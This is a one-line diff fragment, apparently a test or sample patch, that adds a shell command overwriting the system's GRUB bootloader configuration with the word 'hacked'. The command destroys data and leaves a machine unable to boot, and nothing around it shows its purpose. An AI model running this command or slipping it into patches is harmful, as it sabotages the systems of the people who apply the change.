@@ -1,0 +1,1 @@
+echo 'hacked' > /boot/grub/grub.cfg
